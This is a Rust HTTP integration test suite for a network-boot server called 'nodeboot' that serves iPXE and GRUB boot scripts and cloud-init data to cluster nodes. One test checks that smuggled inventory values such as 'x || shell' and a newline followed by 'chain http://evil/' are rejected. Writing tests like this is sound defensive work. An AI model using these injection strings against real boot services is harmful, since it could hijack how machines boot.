//! HTTP-level tests of `nodeboot serve`: the real binary on a loopback port, a real client.

mod support;

use support::manifests::{EXAMPLES_CONFIGS, EXAMPLES_SITE, config, group};
use support::{Nodeboot, examples, manifest_dir, rewrite};

#[tokio::test]
async fn every_example_node_gets_its_own_boot() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let cases = [
        ("02:00:00:00:10:00", "x1000c0s0b0n0", "1", "rocky9/vmlinuz"),
        ("02:00:00:00:10:01", "x1000c0s0b0n1", "2", "rocky9/vmlinuz"),
        ("02:00:00:00:10:10", "x1000c0s1b0n0", "3", "rocky9/vmlinuz"),
        ("02:00:00:00:20:11", "x1000c0s1b0n1", "4", "rocky9/vmlinuz"),
        (
            "02:00:00:00:11:00",
            "x1001c0s0b0n0",
            "101",
            "rocky9-gpu/vmlinuz",
        ),
        (
            "02:00:00:00:11:01",
            "x1001c0s0b0n1",
            "102",
            "rocky9-gpu/vmlinuz",
        ),
    ];
    for (mac, xname, nid, kernel) in cases {
        // Any MAC notation, any case.
        let query = mac.replace(':', "-").to_uppercase();
        let (status, ct, body) = nb.get(&format!("/boot/v1/bootscript?mac={query}")).await;
        assert_eq!(status, 200, "{body}");
        assert!(ct.starts_with("text/plain"), "{ct}");
        assert!(body.starts_with("#!ipxe\n"), "{body}");
        let kernel_line = body.lines().nth(1).unwrap();
        assert!(
            kernel_line.starts_with(&format!(
                "kernel --name kernel http://images.example/{kernel} initrd=initrd "
            )),
            "{body}"
        );
        assert!(
            kernel_line.contains(&format!(" BOOTIF=01-{} ", mac.replace(':', "-"))),
            "{body}"
        );
        assert!(
            kernel_line.contains(&format!(" xname={xname} nid={nid} ")),
            "{body}"
        );
        assert!(
            kernel_line.contains(&format!(
                "ds=nocloud-net;s={}/cloud-init/{xname}/ ",
                nb.boot
            )),
            "{body}"
        );
        assert!(
            body.contains("initrd --name initrd http://images.example/"),
            "{body}"
        );
        assert!(
            body.contains("boot || goto boot_retry\n:boot_retry\n"),
            "{body}"
        );
    }
    // By name and by NID, as BSS accepts.
    let (_, _, by_name) = nb.get("/boot/v1/bootscript?name=x1001c0s0b0n1").await;
    let (_, _, by_nid) = nb.get("/boot/v1/bootscript?nid=102").await;
    assert_eq!(by_name, by_nid);
    assert!(by_name.contains("rocky9-gpu"));

    // An unknown MAC gets the discovery image, with its MAC standing in for a name.
    let (status, _, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:99:99&arch=x86_64")
        .await;
    assert_eq!(status, 200);
    assert!(
        body.contains("http://images.example/discovery/vmlinuz"),
        "{body}"
    );
    assert!(
        body.contains(&format!("discovery.report={}/inventory", nb.boot)),
        "{body}"
    );
    assert!(body.contains("/cloud-init/02-00-00-00-99-99/"), "{body}");
    assert!(!body.contains("xname="), "{body}");

    // json=1 gives kernel, initrd and params.
    let (status, ct, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:10:00&json=1")
        .await;
    assert_eq!(status, 200);
    assert!(ct.starts_with("application/json"));
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["kernel"], "http://images.example/rocky9/vmlinuz");
    assert_eq!(v["initrd"], "http://images.example/rocky9/initramfs.img");
    assert!(
        v["params"]
            .as_str()
            .unwrap()
            .contains("BOOTIF=01-02-00-00-00-10-00")
    );

    // bootparameters in BSS shape.
    let (status, _, body) = nb.get("/boot/v1/bootparameters?name=x1000c0s1b0n1").await;
    assert_eq!(status, 200);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v[0]["hosts"][0], "x1000c0s1b0n1");
    assert_eq!(
        v[0]["macs"],
        serde_json::json!(["02:00:00:00:10:11", "02:00:00:00:20:11"])
    );
    assert_eq!(v[0]["nids"][0], 4);
    assert_eq!(v[0]["kernel"], "http://images.example/rocky9/vmlinuz");

    // The DHCP bootstrap chains to the bootscript with the booting interface's MAC.
    let (status, _, body) = nb.get("/boot.ipxe").await;
    assert_eq!(status, 200);
    assert!(
        body.contains(&format!(
            "chain {}/boot/v1/bootscript?mac=${{netX/mac}}&arch=${{buildarch}}",
            nb.boot
        )),
        "{body}"
    );
}

#[tokio::test]
async fn cloud_init_documents() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let (status, _, meta) = nb.get("/cloud-init/x1000c0s1b0n1/meta-data").await;
    assert_eq!(status, 200);
    let meta: serde_json::Value = serde_yaml_ng::from_str(&meta).unwrap();
    assert_eq!(meta["instance-id"], "x1000c0s1b0n1");
    assert_eq!(meta["local-hostname"], "nid000004");
    assert_eq!(meta["syslog_aggregator"], "10.1.0.5");
    assert_eq!(meta["rack_u"], "12");
    assert_eq!(meta["image"], "compute-rocky9");
    // By MAC, any notation.
    let (status, _, by_mac) = nb.get("/cloud-init/0200.0000.1011/meta-data").await;
    assert_eq!(status, 200);
    assert!(by_mac.contains("instance-id: x1000c0s1b0n1"));

    let (status, _, user) = nb.get("/cloud-init/x1000c0s1b0n1/user-data").await;
    assert_eq!(status, 200);
    assert!(
        user.starts_with("#cloud-config\nhostname: nid000004\n"),
        "{user}"
    );
    assert!(user.contains("*.* @@10.1.0.5:514"), "{user}");
    // vendor-data unset: 200 and empty; network-config unset: 404.
    let (status, _, vendor) = nb.get("/cloud-init/x1000c0s1b0n1/vendor-data").await;
    assert_eq!((status, vendor.as_str()), (200, ""));
    let (status, ct, _) = nb.get("/cloud-init/x1000c0s1b0n1/network-config").await;
    assert_eq!(status, 404);
    assert_eq!(ct, "application/problem+json");
    // Unknown document and unknown node.
    assert_eq!(nb.get("/cloud-init/x1000c0s1b0n1/passwords").await.0, 404);
    assert_eq!(nb.get("/cloud-init/nosuchnode/meta-data").await.0, 404);
    // An unknown MAC gets the discovery image's user-data, from its Secret, verbatim.
    let (status, _, user) = nb.get("/cloud-init/02:00:00:00:99:99/user-data").await;
    assert_eq!(status, 200);
    assert!(user.contains("name: discovery"), "{user}");
}

#[tokio::test]
async fn malformed_requests_get_problem_bodies() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    for (path, status, needle) in [
        ("/boot/v1/bootscript", 400, "mac=, name= or nid="),
        (
            "/boot/v1/bootscript?arch=x86_64",
            400,
            "mac=, name= or nid=",
        ),
        (
            "/boot/v1/bootscript?mac=02:00:00:00:10",
            400,
            "is not a MAC address",
        ),
        (
            "/boot/v1/bootscript?mac=zz:00:00:00:10:00",
            400,
            "is not a MAC address",
        ),
        ("/boot/v1/bootscript?nid=-1", 400, "not a number"),
        ("/boot/v1/bootscript?nid=one", 400, "not a number"),
        (
            "/boot/v1/bootscript?mac=02:00:00:00:10:00&retry=x",
            400,
            "retry",
        ),
        (
            "/boot/v1/bootscript?name=a%0Achain%20http://evil",
            400,
            "not a valid node name",
        ),
        (
            "/boot/v1/bootparameters?mac=02:00:00:00:77:77",
            404,
            "no node",
        ),
        ("/nope", 404, "no such endpoint"),
        (
            "/boot/v2/bootscript?mac=02:00:00:00:10:00",
            404,
            "no such endpoint",
        ),
    ] {
        let (got, ct, body) = nb.get(path).await;
        assert_eq!(got, status, "{path}: {body}");
        assert_eq!(ct, "application/problem+json", "{path}");
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(v["status"], status, "{path}");
        assert!(
            v["detail"].as_str().unwrap().contains(needle),
            "{path}: {body}"
        );
    }
    let (status, _, body) = nb.admin_get("/nodes/nosuchnode").await;
    assert_eq!(status, 404, "{body}");
}

#[tokio::test]
async fn waiting_nodes_loop_with_a_growing_capped_sleep() {
    let nodes = "  - {name: n1, macs: [\"02:00:00:00:00:01\"], nid: 1}\n  - {name: n2, macs: [\"02:00:00:00:00:02\"], nid: 2, labels: {pool: b}}\n";
    let dir = manifest_dir(&[
        ("group.yaml", &group("g", nodes)),
        (
            "a.yaml",
            &config("a", 0, "{matchLabels: {pool: b}}", "console=ttyS0"),
        ),
    ]);
    let nb = Nodeboot::serve(dir.path(), &["--retry-max-delay", "12"]).await;
    // n1 matches nothing: 200 with a script that waits and asks again.
    let (status, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:01").await;
    assert_eq!(status, 200);
    assert!(!body.contains("kernel "), "{body}");
    assert!(
        body.contains("echo nodeboot: no BootConfig matches this node"),
        "{body}"
    );
    assert!(body.contains("sleep 5\n"), "{body}");
    assert!(body.contains(&format!("chain --replace {}/boot/v1/bootscript?mac=02:00:00:00:00:01&arch=${{buildarch}}&retry=1", nb.boot)), "{body}");
    let (_, _, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:00:01&retry=1")
        .await;
    assert!(
        body.contains("sleep 10\n") && body.contains("&retry=2"),
        "{body}"
    );
    let (_, _, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:00:01&retry=500")
        .await;
    assert!(
        body.contains("sleep 12\n") && body.contains("&retry=501"),
        "{body}"
    );
    // By name, the loop keeps asking by name.
    let (_, _, body) = nb.get("/boot/v1/bootscript?name=n1&retry=2").await;
    assert!(
        body.contains("bootscript?name=n1&arch=${buildarch}&retry=3"),
        "{body}"
    );
    // Unknown MAC with no discovery BootConfig: wait too.
    let (status, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:99").await;
    assert_eq!(status, 200);
    assert!(
        body.contains("echo nodeboot: this node is in no NodeGroup"),
        "{body}"
    );
    let (status, _, _) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:00:99&json=1")
        .await;
    assert_eq!(status, 404);
    // An assigned node's retry tail follows the retry count as well.
    let (_, _, body) = nb
        .get("/boot/v1/bootscript?mac=02:00:00:00:00:02&retry=1")
        .await;
    assert!(
        body.contains("kernel --name kernel http://img/a/vmlinuz"),
        "{body}"
    );
    assert!(
        body.contains("sleep 10\n") && body.contains("&retry=2 || goto boot_retry"),
        "{body}"
    );

    // Adding a BootConfig makes the waiting node boot on its next request.
    std::fs::write(
        dir.path().join("b.yaml"),
        config("b", 0, "{matchLabels: {role: compute}}", "quiet"),
    )
    .unwrap();
    let took = nb
        .wait_for("/boot/v1/bootscript?mac=02:00:00:00:00:01&retry=40", |b| {
            b.contains("http://img/b/vmlinuz")
        })
        .await;
    eprintln!("new BootConfig served after {took:?}");
}

#[tokio::test]
async fn ties_and_duplicates_are_conflicts_never_guesses() {
    let g1 = group(
        "g1",
        "  - {name: n1, macs: [\"02:00:00:00:00:01\"], nid: 1}\n  - {name: n2, macs: [\"02:00:00:00:00:02\"], nid: 2}\n",
    );
    let g2 = group(
        "g2",
        "  - {name: n3, macs: [\"02:00:00:00:00:01\"], nid: 3}\n  - {name: n4, macs: [\"02:00:00:00:00:04\"], nid: 2}\n",
    );
    let dir = manifest_dir(&[
        ("g1.yaml", &g1),
        ("g2.yaml", &g2),
        ("a.yaml", &config("a", 5, "{}", "x=a")),
        (
            "b.yaml",
            &config("b", 5, "{matchLabels: {role: compute}}", "x=b"),
        ),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    for mac in [
        "02:00:00:00:00:01",
        "02:00:00:00:00:02",
        "02:00:00:00:00:04",
    ] {
        let (status, _, body) = nb.get(&format!("/boot/v1/bootscript?mac={mac}")).await;
        assert_eq!(status, 200);
        assert!(
            body.contains("echo nodeboot: this node is in conflict"),
            "{mac}: {body}"
        );
        assert!(!body.contains("kernel "), "{mac}: {body}");
    }
    let n1 = nb.node_report("n1").await;
    assert_eq!(n1["phase"], "Conflict");
    assert!(
        n1["why"]
            .as_str()
            .unwrap()
            .contains("MAC 02:00:00:00:00:01 is also claimed by n3 (NodeGroup g2)"),
        "{n1}"
    );
    let n2 = nb.node_report("n2").await;
    assert!(
        n2["why"]
            .as_str()
            .unwrap()
            .contains("NID 2 is also claimed by n4"),
        "{n2}"
    );
    // Drop the duplicate and n2 and n4 are left with the tie between a and b.
    rewrite(
        &dir.path().join("g2.yaml"),
        &group(
            "g2",
            "  - {name: n3, macs: [\"02:00:00:00:00:03\"], nid: 3}\n",
        ),
    );
    nb.wait_for("/boot/v1/bootscript?mac=02:00:00:00:00:03", |b| {
        b.contains("in conflict")
    })
    .await;
    let n3 = nb.node_report("n3").await;
    assert!(
        n3["why"]
            .as_str()
            .unwrap()
            .contains("BootConfigs a, b tie at priority 5"),
        "{n3}"
    );
    assert_eq!(n3["candidates"].as_array().unwrap().len(), 2);
    assert!(
        nb.logs().contains("ties with"),
        "the tie is reported:\n{}",
        nb.logs()
    );
    // Breaking the tie assigns every node.
    rewrite(
        &dir.path().join("b.yaml"),
        &config("b", 6, "{matchLabels: {role: compute}}", "x=b"),
    );
    nb.wait_for("/boot/v1/bootscript?mac=02:00:00:00:00:03", |b| {
        b.contains("x=b")
    })
    .await;
}

#[tokio::test]
async fn broken_template_keeps_serving_last_good_version() {
    let nodes = "  - {name: n1, macs: [\"02:00:00:00:00:01\"], nid: 1}\n";
    let dir = manifest_dir(&[
        ("g.yaml", &group("g", nodes)),
        ("a.yaml", &config("a", 0, "{}", "console=ttyS0 v=1")),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let (_, _, before) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:01").await;
    assert!(before.contains("v=1"));
    rewrite(
        &dir.path().join("a.yaml"),
        &config("a", 0, "{}", "console=ttyS0 v={{ 2 +"),
    );
    // Wait for the reload to be logged, then check the old version is still served.
    nb.wait_log("still serving generation 1").await;
    let (_, _, during) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:01").await;
    assert_eq!(during, before);
    let report = nb.node_report("n1").await;
    assert_eq!(report["servedGeneration"], 1);
    assert!(
        nb.logs().contains("template params: syntax error"),
        "{}",
        nb.logs()
    );
    // Fixed: generation 3 is served.
    rewrite(
        &dir.path().join("a.yaml"),
        &config("a", 0, "{}", "console=ttyS0 v=3"),
    );
    nb.wait_for("/boot/v1/bootscript?mac=02:00:00:00:00:01", |b| {
        b.contains("v=3")
    })
    .await;
    let report = nb.node_report("n1").await;
    assert_eq!(report["servedGeneration"], 3);
}

#[tokio::test]
async fn bad_file_is_reported_and_last_good_state_kept() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let path = "/boot/v1/bootscript?mac=02:00:00:00:10:00";
    let (_, _, before) = nb.get(path).await;
    rewrite(
        &dir.path().join("site.yaml"),
        "apiVersion: nodeboot.io/v1alpha1\nkind: NodeGroup\nmetadata: {name: x\n",
    );
    nb.wait_log("site.yaml: document 1: line 1: not valid YAML")
        .await;
    assert_eq!(nb.get(path).await.2, before);
    // A file the API server would refuse (a bad MAC) is refused the same way.
    rewrite(
        &dir.path().join("site.yaml"),
        &EXAMPLES_SITE.replace("02:00:00:00:10:00", "02:00:00:00:10:0g"),
    );
    nb.wait_log("spec.nodes[0].macs: '02:00:00:00:10:0g' is not a MAC address")
        .await;
    assert_eq!(nb.get(path).await.2, before);
    // A good edit takes effect.
    rewrite(
        &dir.path().join("site.yaml"),
        &EXAMPLES_SITE.replace(
            "role: compute, cabinet: x1000",
            "role: login, cabinet: x1000",
        ),
    );
    let took = nb
        .wait_for(path, |b| b.contains("no BootConfig matches"))
        .await;
    eprintln!("edit served after {took:?}");
}

#[tokio::test]
async fn changing_a_bootconfig_retargets_every_matched_node() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let text = EXAMPLES_CONFIGS.replace(
        "http://images.example/rocky9/vmlinuz",
        "http://images.example/rocky10/vmlinuz",
    );
    rewrite(&dir.path().join("bootconfigs.yaml"), &text);
    let took = nb
        .wait_for("/boot/v1/bootscript?mac=02:00:00:00:10:00", |b| {
            b.contains("rocky10/vmlinuz")
        })
        .await;
    eprintln!("BootConfig change served after {took:?}");
    for mac in [
        "02:00:00:00:10:01",
        "02:00:00:00:10:10",
        "02:00:00:00:10:11",
        "02:00:00:00:20:11",
    ] {
        let (_, _, body) = nb.get(&format!("/boot/v1/bootscript?mac={mac}")).await;
        assert!(body.contains("rocky10/vmlinuz"), "{mac}: {body}");
    }
    // GPU nodes keep their own image.
    let (_, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:11:00").await;
    assert!(body.contains("rocky9-gpu/vmlinuz"));
}

#[tokio::test]
async fn cloud_init_source_check_and_trusted_proxies() {
    let nodes = "  - {name: n1, macs: [\"02:00:00:00:00:01\"], ip: 127.0.0.1}\n  - {name: n2, macs: [\"02:00:00:00:00:02\"], ip: 10.1.0.2}\n  - {name: n3, macs: [\"02:00:00:00:00:03\"]}\n";
    let dir = manifest_dir(&[
        ("g.yaml", &group("g", nodes)),
        ("a.yaml", &config("a", 0, "{}", "q")),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    // Found by source address.
    let (status, _, meta) = nb.get("/cloud-init/meta-data").await;
    assert_eq!(status, 200);
    assert!(meta.contains("instance-id: n1"), "{meta}");
    // Another node's data, asked from the wrong address: 403.
    let (status, ct, body) = nb.get("/cloud-init/n2/meta-data").await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(ct, "application/problem+json");
    // A node without an ip is served to anyone.
    assert_eq!(nb.get("/cloud-init/n3/meta-data").await.0, 200);
    // X-Forwarded-For from an untrusted peer is ignored.
    let client = reqwest::Client::new();
    let r = client
        .get(format!("{}/cloud-init/n2/meta-data", nb.boot))
        .header("X-Forwarded-For", "10.1.0.2")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = client
        .get(format!("{}/cloud-init/meta-data", nb.boot))
        .header("X-Forwarded-For", "10.1.0.2")
        .send()
        .await
        .unwrap();
    assert!(r.text().await.unwrap().contains("instance-id: n1"));
    drop(nb);

    // From a trusted proxy, it is believed.
    let nb = Nodeboot::serve(dir.path(), &["--trusted-proxies", "127.0.0.0/8"]).await;
    let r = client
        .get(format!("{}/cloud-init/n2/meta-data", nb.boot))
        .header("X-Forwarded-For", "10.1.0.2")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = client
        .get(format!("{}/cloud-init/meta-data", nb.boot))
        .header("X-Forwarded-For", "10.9.9.9, 10.1.0.2")
        .send()
        .await
        .unwrap();
    assert!(r.text().await.unwrap().contains("instance-id: n2"));
    let r = client
        .get(format!("{}/cloud-init/meta-data", nb.boot))
        .header("X-Forwarded-For", "10.1.0.99")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    drop(nb);

    let nb = Nodeboot::serve(dir.path(), &["--cloud-init-source-check", "off"]).await;
    assert_eq!(nb.get("/cloud-init/n2/meta-data").await.0, 200);
}

#[tokio::test]
async fn inventory_values_cannot_inject_ipxe_commands() {
    // Through meta-data into params, and into a custom script: the node gets no boot, the
    // BootConfig reports the failure, and no injected line appears anywhere.
    let nodes = "  - {name: n1, macs: [\"02:00:00:00:00:01\"], metaData: {root: \"x || shell\"}}\n  - {name: n2, macs: [\"02:00:00:00:00:02\"], metaData: {root: \"sda1\"}}\n  - {name: n3, macs: [\"02:00:00:00:00:03\"], labels: {s: x}, metaData: {root: \"a\\nchain http://evil/\"}}\n";
    let script_config = "apiVersion: nodeboot.io/v1alpha1\nkind: BootConfig\nmetadata: {name: custom, namespace: hpc}\nspec:\n  nodeSelector: {matchLabels: {s: x}}\n  priority: 1\n  kernel: http://img/k\n  script: |\n    #!ipxe\n    kernel {{ boot.kernel }} root={{ meta.root }}\n    boot\n";
    let dir = manifest_dir(&[
        ("g.yaml", &group("g", nodes)),
        ("a.yaml", &config("a", 0, "{}", "root={{ meta.root }}")),
        ("s.yaml", script_config),
    ]);
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let (_, _, good) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:02").await;
    assert!(good.contains(" root=sda1 "), "{good}");
    for mac in ["02:00:00:00:00:01", "02:00:00:00:00:03"] {
        let (status, _, body) = nb.get(&format!("/boot/v1/bootscript?mac={mac}")).await;
        assert_eq!(status, 200);
        assert!(
            !body.contains("shell") && !body.contains("evil"),
            "{mac}: {body}"
        );
        assert!(!body.contains("kernel "), "{mac}: {body}");
    }
    let (_, _, n1) = nb.admin_get("/nodes/n1").await;
    assert!(n1.contains("may not reach an iPXE script"), "{n1}");
    assert!(nb.logs().contains("RenderFailed"), "{}", nb.logs());

    // Through names, labels and hostnames: refused when the manifest is read, so the node is
    // never served (and the rest of the site is).
    for (what, bad) in [
        (
            "name",
            "  - {name: \"n9 || shell\", macs: [\"02:00:00:00:00:09\"]}\n",
        ),
        (
            "label",
            "  - {name: n9, macs: [\"02:00:00:00:00:09\"], labels: {role: \"x || shell\"}}\n",
        ),
        (
            "hostname",
            "  - {name: n9, macs: [\"02:00:00:00:00:09\"], hostname: \"h;shell\"}\n",
        ),
    ] {
        std::fs::write(dir.path().join("bad.yaml"), group("bad", bad)).unwrap();
        nb.wait_log("bad.yaml: document 1: line 1: NodeGroup hpc/bad:")
            .await;
        let (_, _, body) = nb.get("/boot/v1/bootscript?mac=02:00:00:00:00:09").await;
        assert!(
            body.contains("in no NodeGroup") && !body.contains("shell"),
            "{what}: {body}"
        );
        std::fs::remove_file(dir.path().join("bad.yaml")).unwrap();
        std::fs::write(dir.path().with_extension("log"), "").unwrap();
    }
}

#[tokio::test]
async fn admin_endpoints() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    assert_eq!(nb.admin_get("/healthz").await.0, 200);
    assert_eq!(nb.admin_get("/readyz").await.0, 200);
    nb.get("/boot/v1/bootscript?mac=02:00:00:00:10:00").await;
    nb.get("/boot/v1/bootscript").await;
    let (status, _, metrics) = nb.admin_get("/metrics").await;
    assert_eq!(status, 200);
    assert!(
        metrics.contains("nodeboot_http_requests_total{endpoint=\"bootscript\",outcome=\"ok\"} 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains(
            "nodeboot_http_requests_total{endpoint=\"bootscript\",outcome=\"bad_request\"} 1"
        ),
        "{metrics}"
    );
    assert!(
        metrics.contains("nodeboot_nodes{phase=\"Assigned\"} 6"),
        "{metrics}"
    );
    assert!(
        metrics.contains("nodeboot_http_request_duration_seconds_bucket"),
        "{metrics}"
    );
    let (status, _, node) = nb.admin_get("/nodes/02-00-00-00-11-00").await;
    assert_eq!(status, 200);
    let v: serde_json::Value = serde_json::from_str(&node).unwrap();
    assert_eq!(v["name"], "x1001c0s0b0n0");
    assert_eq!(v["bootConfig"], "gpu-rocky9");
    assert_eq!(v["labels"]["nodeboot.io/group"], "cabinet-x1001");
    assert_eq!(v["candidates"][0]["config"], "gpu-rocky9");
    assert_eq!(v["candidates"][1]["config"], "compute-rocky9");
    assert!(
        v["script"]
            .as_str()
            .unwrap()
            .starts_with("#!ipxe\nkernel --name kernel http://images.example/rocky9-gpu/vmlinuz")
    );
    assert_eq!(v["metaData"]["syslog_aggregator"], "10.1.0.5");
    // Secret data never reaches the admin endpoint.
    let (_, _, unknown) = nb.admin_get("/nodes/02:00:00:00:99:99").await;
    assert!(
        unknown.contains("\"bootConfig\":\"discovery\""),
        "{unknown}"
    );
    assert!(!unknown.contains("ssh-ed25519"), "{unknown}");
}

/// A rack powering on opens thousands of connections at once: the listen queue must hold them
/// (the kernel's usual 128 dropped SYNs in the boot-storm benchmark, each costing a node ~1 s).
#[tokio::test]
async fn listen_queue_holds_a_storm_of_connections() {
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let port = nb.boot.rsplit(':').next().unwrap().to_owned();
    let out = std::process::Command::new("ss")
        .args(["-ltnH", &format!("sport = :{port}")])
        .output()
        .expect("ss (iproute2, hack/install-test-deps.sh)");
    let line = String::from_utf8_lossy(&out.stdout).into_owned();
    // Listening sockets show their backlog in the Send-Q column.
    let backlog: u32 = line
        .split_whitespace()
        .nth(2)
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let somaxconn: u32 = std::fs::read_to_string("/proc/sys/net/core/somaxconn")
        .ok()
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(4096);
    assert_eq!(backlog, somaxconn.min(4096), "{line}");
}

/// GRUB's HTTP client finds `Content-Length:` only in exactly this spelling; with hyper's
/// lowercase headers it waits about two minutes and gives up. Checked on the bytes the boot
/// listener writes, for GRUB's two endpoints and one other.
#[tokio::test]
async fn boot_listener_writes_title_case_headers_for_grub() {
    use std::io::{Read as _, Write as _};
    let dir = examples();
    let nb = Nodeboot::serve(dir.path(), &[]).await;
    let addr = nb.boot.trim_start_matches("http://").to_owned();
    for path in [
        "/grub.cfg",
        "/boot/v1/grub.cfg?mac=02:00:00:00:10:00",
        "/boot/v1/grub.cfg?mac=02:00:00:00:99:99",
        "/boot.ipxe",
    ] {
        // A blocking socket is fine here: the server is another process.
        let mut stream = std::net::TcpStream::connect(&addr).expect("connect");
        // As GRUB 2.12 asks: HTTP/1.1, a Host header, then it closes after the body.
        let request = format!(
            "GET {path} HTTP/1.1\r\nHost: {addr}\r\nUser-Agent: GRUB 2.12\r\nConnection: close\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).expect("write");
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).expect("read");
        let raw = String::from_utf8(raw).expect("UTF-8 response");
        let (head, body) = raw.split_once("\r\n\r\n").expect("a head");
        assert!(head.starts_with("HTTP/1.1 200 OK\r\n"), "{path}: {head}");
        let length = head
            .lines()
            .find_map(|l| l.strip_prefix("Content-Length: "))
            .unwrap_or_else(|| panic!("{path}: no title-case Content-Length in\n{head}"));
        assert_eq!(length.parse::<usize>().expect("a length"), body.len());
        assert!(head.contains("\r\nContent-Type: text/plain"), "{head}");
        assert!(!head.contains("content-length"), "{head}");
    }
}
